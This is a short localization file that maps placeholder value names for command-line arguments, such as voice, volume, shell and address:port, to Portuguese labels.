value-voice = VOZ
value-volume = VOLUME
value-hash-command = HASH|COMANDO
value-entry = ITEM
value-key-file = CHAVE|ARQUIVO
value-shell = SHELL
value-address-port = ENDEREÇO:PORTA
value-seconds = SEGUNDOS
value-number = NÚMERO
